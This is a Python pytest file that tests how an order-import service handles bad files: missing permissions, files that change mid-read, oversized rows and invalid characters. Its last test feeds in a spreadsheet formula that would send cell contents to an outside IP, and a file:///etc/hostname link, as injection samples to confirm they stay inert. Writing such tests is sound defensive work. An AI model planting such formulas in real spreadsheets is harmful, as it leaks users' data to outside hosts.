"""A file that cannot be read gives one sentence, soon, in bounded memory, and leaves the workspace as it was."""

from __future__ import annotations

import ctypes
import os
import sqlite3
import sys
import time
from collections.abc import Iterator
from contextlib import closing, contextmanager
from pathlib import Path

import pytest

from ordermanager.importing.errors import ReadError
from ordermanager.store.orders.query import OrderQuery
from tests.importing.bad_files import BAD
from tests.importing.files import workbook
from tests.services.imports.small_chunks import use_chunks_of

SECONDS = 60
"""The limit of the reader's own child; nearly all take less than one."""

MEGABYTES = 200
"""So much more than before may be held by this process; the reader's child has its own limit."""


@pytest.fixture
def dump(services, folder, write_csv, row):
    """Every row of every table of the workspace, which has an order already."""
    services.importing.run(services.importing.prepare(write_csv(row("1"), name="before.csv")))
    (file,) = (path for path in folder.iterdir() if path.is_file() and path.read_bytes()[:6] == b"SQLite")

    def read() -> dict[str, list[tuple[object, ...]]]:
        with closing(sqlite3.connect(f"file:{file}?mode=ro", uri=True)) as database:
            names = [
                name
                for name, made in database.execute("SELECT name, sql FROM sqlite_master WHERE type = 'table'")
                if "VIRTUAL" not in made  # what it holds is in the tables beside it
            ]
            return {name: database.execute(f'SELECT * FROM "{name}"').fetchall() for name in names}

    return read


def peak() -> float:
    """The most memory that this process ever held, in megabytes; 0 where that is not told."""
    try:
        import resource
    except ImportError:
        return 0.0
    most = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    return most / (1 << 20 if sys.platform == "darwin" else 1 << 10)


def import_(services, path):
    return services.importing.run(services.importing.prepare(path))


@pytest.mark.parametrize("kind", BAD)
def test_one_sentence_and_nothing_changed(services, dump, tmp_path, kind):
    name, words, make = BAD[kind]
    (tmp_path / "bad").mkdir()
    path = tmp_path / "bad" / name
    make(path)
    before, most, started = dump(), peak(), time.monotonic()
    with pytest.raises(ReadError, match=rf"{name}.*{words}|{words}") as caught:
        import_(services, path)
    assert time.monotonic() - started < SECONDS
    assert peak() - most < MEGABYTES
    assert caught.value.exit_code == 3
    sentence = str(caught.value)
    assert sentence.startswith(name)
    assert "\n" not in sentence
    assert len(sentence) < 400
    assert dump() == before


@contextmanager
def without_rights(path: Path) -> Iterator[None]:
    """Nobody may read the file; root, who may read everything, gives that power up for a moment."""
    path.chmod(0)
    powers = _powers() if os.geteuid() == 0 else None
    if powers is not None:
        _take_powers(powers & ~0b110)  # CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH
    try:
        yield
    finally:
        if powers is not None:
            _take_powers(powers)
        path.chmod(0o600)


def _powers() -> int:
    told = Path("/proc/thread-self/status").read_text("ascii")
    return int(next(line for line in told.splitlines() if line.startswith("CapEff")).split()[1], 16)


def _take_powers(effective: int) -> None:
    """Capabilities of this thread; the permitted ones stay, so that the others can be taken again."""
    head = (ctypes.c_uint32 * 2)(0x20080522, 0)
    sets = (ctypes.c_uint32 * 6)()
    libc = ctypes.CDLL(None, use_errno=True)
    assert libc.capget(head, sets) == 0
    sets[0], sets[3] = effective & 0xFFFFFFFF, effective >> 32
    assert libc.capset(head, sets) == 0


@pytest.mark.skipif(sys.platform != "linux", reason="rights are kept elsewhere there, and root has them all")
def test_no_permission(services, dump, write_csv, row):
    path = write_csv(row("2"))
    before = dump()
    with without_rights(path), pytest.raises(ReadError, match=r"orders\.csv may not be read"):
        import_(services, path)
    assert dump() == before
    assert import_(services, path).new == 1


MANY = 3000


def shorter(path: Path) -> None:
    path.write_bytes(path.read_bytes()[:5000])


def other(path: Path) -> None:
    """Others of the same length."""
    path.write_bytes(path.read_bytes()[::-1])


@pytest.mark.parametrize("ending", ["csv", "xlsx"])
@pytest.mark.parametrize("accident", [Path.unlink, shorter, other])
def test_a_file_that_changes_or_vanishes_between_looking_and_reading(
    services, dump, write_csv, row, tmp_path, ending, accident
):
    rows = [row(str(number)) for number in range(10, MANY)]
    path = write_csv(*rows)
    if ending == "xlsx":
        path = tmp_path / "orders.xlsx"
        path.write_bytes(workbook([list(rows[0]), *(list(one.values()) for one in rows)]))
    before = dump()
    prepared = services.importing.prepare(path)
    accident(path)
    with pytest.raises(ReadError, match=r"orders\.\w+.*(changed|vanished|exist)"):
        services.importing.run(prepared)
    assert services.orders.count(OrderQuery()) == 1
    assert dump()["orders"] == before["orders"]
    assert dump()["imports"] == before["imports"]


def test_a_file_that_breaks_half_way_takes_its_orders_back(services, dump, write_csv, row, monkeypatch):
    use_chunks_of(50, monkeypatch)
    rows = [row(str(number)) for number in range(1500)]
    path = write_csv(*rows, row("x", firstName="y" * 200_000))
    kept = services.orders.get(services.orders.find(["1"])[0]).draft
    with pytest.raises(ReadError, match="row 1502"):
        import_(services, path)
    assert services.orders.count(OrderQuery()) == 1
    assert services.orders.get(services.orders.find(["1"])[0]).draft == kept
    assert dump()["order_counts"]


@pytest.mark.parametrize("character", ["\0", "\ud83d"])
def test_characters_that_no_order_may_hold(services, dump, write_csv, row, tmp_path, character):
    """They are left out of the texts around them: the database and Yespo take neither."""
    path = tmp_path / "orders.csv"
    text = write_csv(row("7", firstName="An?na"), name="x.csv").read_text("utf-8")
    path.write_bytes(text.replace("?", character).encode("utf-8", "surrogatepass"))
    assert import_(services, path).new == 1
    name = services.orders.get(services.orders.find(["7"])[0]).draft.get("firstName")
    assert name.encode()
    assert name[:2] == "An"
    assert name[-2:] == "na"
    assert "\0" not in name


def test_formulas_and_links_stay_what_they_are(services, write_csv, row):
    formula, link = '=HYPERLINK("http://192.0.2.1/"&A1)', "file:///etc/hostname"
    import_(services, write_csv(row("7", firstName=formula, imageUrl=link)))
    draft = services.orders.get(services.orders.find(["7"])[0]).draft
    assert (draft.get("firstName"), draft.items[0]["imageUrl"]) == (formula, link)
